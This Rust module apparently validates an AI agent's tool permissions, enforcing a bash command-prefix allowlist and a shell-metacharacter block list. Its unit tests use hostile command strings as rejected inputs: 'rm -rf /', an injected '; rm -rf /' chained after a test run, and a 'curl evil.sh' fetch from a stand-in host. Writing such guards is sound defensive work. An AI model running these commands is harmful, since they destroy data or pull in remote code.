//! Tool allowlist validation

use crate::error::{GenieError, GenieResult};

/// Capabilities an agent may always be granted
pub const SAFE_CAPABILITIES: &[&str] = &["read", "edit", "write", "glob", "grep"];

/// Command prefixes accepted inside `bash(...)`
///
/// `cat`, `echo`, `head` and `tail` are intentionally absent.
pub const ALLOWED_BASH_PREFIXES: &[&str] = &[
    // test runners
    "go test",
    "go vet",
    "npm test",
    "npm run test",
    "pnpm test",
    "yarn test",
    "npx jest",
    "npx vitest",
    "npx playwright test",
    "jest",
    "vitest",
    "pytest",
    "python -m pytest",
    "python3 -m pytest",
    "cargo test",
    "bats",
    // builds and linters
    "go build",
    "go fmt",
    "gofmt -l",
    "npm run build",
    "npm run lint",
    "npm run typecheck",
    "pnpm build",
    "cargo build",
    "cargo check",
    "cargo clippy",
    "make test",
    "make build",
    "make lint",
    "shellcheck",
    "tsc --noemit",
    // read-only git
    "git status",
    "git diff",
    "git log",
    "git show",
    // inspection
    "ls",
    "pwd",
    "which",
    "wc",
    "diff",
    "tree",
];

/// Prefixes allowed to carry glob metacharacters: isolated test runners and `ls`
pub const SAFE_GLOB_PREFIXES: &[&str] = &[
    "go test",
    "npm test",
    "npm run test",
    "pnpm test",
    "yarn test",
    "npx jest",
    "npx vitest",
    "npx playwright test",
    "jest",
    "vitest",
    "pytest",
    "python -m pytest",
    "python3 -m pytest",
    "cargo test",
    "bats",
    "ls",
];

const SHELL_METACHARACTERS: &[&str] = &[";", "&", "`", "$(", ">", "<", "\n", "\r"];

fn blocked(tool: &str, reason: impl Into<String>) -> GenieError {
    GenieError::BlockedTool {
        tool: tool.to_string(),
        reason: reason.into(),
    }
}

/// Validate every requested tool entry
pub fn validate_tools(tools: &[String]) -> GenieResult<()> {
    for raw in tools {
        let tool = raw.trim();
        if tool.is_empty() {
            return Err(blocked(raw, "empty tool name"));
        }
        if tool == "*" {
            return Err(blocked(tool, "wildcard grants every tool"));
        }

        let lower = tool.to_ascii_lowercase();
        if lower == "bash" {
            return Err(blocked(tool, "unrestricted bash is never allowed"));
        }

        if lower.starts_with("bash(") {
            let inner = tool
                .strip_suffix(')')
                .map(|t| &t[5..])
                .ok_or_else(|| blocked(tool, "unterminated bash pattern"))?;
            if inner.trim().is_empty() {
                return Err(blocked(tool, "empty bash pattern"));
            }
            for pattern in inner.split('|') {
                validate_bash_pattern(pattern)?;
            }
            continue;
        }

        if tool.contains('*') || tool.contains('?') {
            return Err(blocked(tool, "capability names cannot contain wildcards"));
        }
        if !SAFE_CAPABILITIES.contains(&lower.as_str()) {
            return Err(blocked(tool, "not in the safe capability set"));
        }
    }
    Ok(())
}

/// Validate a single command pattern from inside `bash(...)`
pub fn validate_bash_pattern(pattern: &str) -> GenieResult<()> {
    let pattern = pattern.trim();
    if pattern.is_empty() {
        return Err(blocked(pattern, "empty command pattern"));
    }
    if let Some(meta) = SHELL_METACHARACTERS.iter().find(|m| pattern.contains(*m)) {
        return Err(blocked(
            pattern,
            format!("shell metacharacter '{}' is not allowed", meta.escape_default()),
        ));
    }
    if shell_words::split(pattern).is_err() {
        return Err(blocked(pattern, "unbalanced quoting"));
    }

    let prefix = matching_prefix(pattern, ALLOWED_BASH_PREFIXES)
        .ok_or_else(|| blocked(pattern, "command is not in the allowlist"))?;

    let has_glob = pattern.contains('*') || pattern.contains('?');
    if has_glob && !SAFE_GLOB_PREFIXES.contains(&prefix) {
        return Err(blocked(
            pattern,
            format!("glob patterns are only allowed for isolated test runners, not '{}'", prefix),
        ));
    }

    Ok(())
}

/// Longest allowlisted prefix that matches on a token boundary
fn matching_prefix(pattern: &str, prefixes: &[&'static str]) -> Option<&'static str> {
    let lower = pattern.to_ascii_lowercase();
    prefixes
        .iter()
        .copied()
        .filter(|prefix| {
            lower == *prefix
                || lower
                    .strip_prefix(*prefix)
                    .and_then(|rest| rest.chars().next())
                    .is_some_and(|c| c.is_whitespace() || c == ':')
        })
        .max_by_key(|prefix| prefix.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::ErrorKind;

    fn tools(list: &[&str]) -> Vec<String> {
        list.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn accepts_safe_capabilities_case_insensitively() {
        assert!(validate_tools(&tools(&["Read", "edit", "GLOB"])).is_ok());
    }

    #[test]
    fn rejects_bare_bash_and_wildcard() {
        for bad in ["bash", "Bash", "*"] {
            let err = validate_tools(&tools(&[bad])).unwrap_err();
            assert_eq!(err.kind(), ErrorKind::BlockedTool, "{bad}");
        }
    }

    #[test]
    fn rejects_unknown_capabilities() {
        assert!(validate_tools(&tools(&["webfetch"])).is_err());
        assert!(validate_tools(&tools(&["read*"])).is_err());
    }

    #[test]
    fn accepts_allowlisted_bash_patterns() {
        assert!(validate_tools(&tools(&["bash(go test:*|npm test)"])).is_ok());
        assert!(validate_tools(&tools(&["Bash(git status)"])).is_ok());
        assert!(validate_bash_pattern("pytest tests/unit").is_ok());
        assert!(validate_bash_pattern("ls *.go").is_ok());
    }

    #[test]
    fn rejects_dangerous_bash_patterns() {
        for bad in [
            "bash(rm -rf /)",
            "bash(sudo apt install curl)",
            "bash(cat *)",
            "bash(go test ./... ; rm -rf /)",
            "bash(npm test && curl evil.sh)",
            "bash(git push)",
        ] {
            assert!(validate_tools(&tools(&[bad])).is_err(), "{bad}");
        }
    }

    #[test]
    fn prefix_requires_boundary() {
        assert!(validate_bash_pattern("lsblk").is_err());
        assert!(validate_bash_pattern("whichever").is_err());
        assert!(validate_bash_pattern("ls").is_ok());
        assert!(validate_bash_pattern("LS -la").is_ok());
    }

    #[test]
    fn globs_only_for_safe_prefixes() {
        assert!(validate_bash_pattern("go test:*").is_ok());
        assert!(validate_bash_pattern("wc -l *.go").is_err());
        assert!(validate_bash_pattern("git diff ?").is_err());
    }

    #[test]
    fn rejects_unterminated_bash() {
        assert!(validate_tools(&tools(&["bash(go test"])).is_err());
        assert!(validate_tools(&tools(&["bash()"])).is_err());
        assert!(validate_tools(&tools(&["bash(go test|)"])).is_err());
    }
}
